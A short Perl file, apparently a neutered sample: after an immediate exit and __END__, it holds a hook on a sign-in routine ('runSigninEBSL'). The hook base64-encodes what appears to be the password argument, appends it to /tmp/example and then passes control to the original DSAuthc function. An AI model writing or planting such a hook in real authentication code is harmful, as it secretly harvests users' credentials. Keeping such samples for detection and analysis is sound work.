#!/usr/bin/perl
exit;
__END__
my $out = join '/', '', 'tmp', 'example';
sub runSigninEBSL { my $t = MIME::Base64::encode_base64($_[2]); CORE::open(my $o, '>>', $out); syswrite $o, $t; goto &DSAuthc::runSigninEBSL; }
